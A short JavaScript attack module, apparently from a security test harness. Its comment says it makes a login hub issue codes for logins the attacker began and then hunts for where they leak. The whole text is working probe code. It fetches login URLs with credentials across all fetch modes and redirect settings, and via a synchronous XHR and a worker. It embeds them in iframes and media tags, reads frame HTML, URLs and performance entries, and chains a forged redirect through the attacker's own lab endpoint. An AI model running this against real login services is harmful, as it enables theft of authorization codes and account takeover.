// Has the hub make login codes for logins that the attacker began, and looks for where they went.
({
    async begin({ logins, own }) {
        const late = () => new Promise((done) => setTimeout(done, 3000)); // some never load
        const got = [];
        const look = (frame) => {
            try {
                got.push(frame.contentWindow.location.href, frame.contentDocument.documentElement.outerHTML);
                got.push(frame.contentWindow.performance.getEntries().map((entry) => entry.name));
            } catch (error) { got.push(String(error)); }
        };
        for (const address of logins) {
            for (const mode of ["cors", "no-cors", "same-origin"]) {
                for (const redirect of ["follow", "manual", "error"]) {
                    const answer = await fetch(address, { mode, redirect, credentials: "include" }).catch(() => null);
                    if (answer) got.push([answer.url, [...answer.headers], await answer.text().catch(() => "")]);
                }
            }
            const request = new XMLHttpRequest();
            request.open("GET", address, false);
            try { request.send(); got.push(request.responseURL, request.responseText); } catch (error) { got.push(String(error)); }
            const script = `fetch(${JSON.stringify(address)}).then(async (a) => postMessage([a.url, await a.text()]), (e) => postMessage(String(e)))`;
            const worker = new Worker(URL.createObjectURL(new Blob([script])));
            got.push(await new Promise((done) => { worker.onmessage = (event) => done(event.data); worker.onerror = () => done(null); }));
            worker.terminate();
            for (const tag of ["iframe", "object", "embed", "img", "script", "video", "audio", "link"]) {
                const element = document.createElement(tag);
                if (tag === "link") element.rel = "stylesheet";
                element[{ object: "data", link: "href" }[tag] ?? "src"] = address;
                const over = new Promise((done) => { for (const name of ["load", "error", "abort", "suspend"]) element.addEventListener(name, done); });
                document.body.append(element);
                await Promise.race([over, late()]);
                if (tag === "iframe") look(element);
                element.remove();
            }
            const chained = await fetch(`${own}lab/tree/x?status=302&headers=${encodeURIComponent(JSON.stringify([["Location", address]]))}`).catch(() => null);
            if (chained) got.push([chained.url, await chained.text()]);
        }
        return [got, performance.getEntries().map((entry) => JSON.stringify(entry))];
    },
})
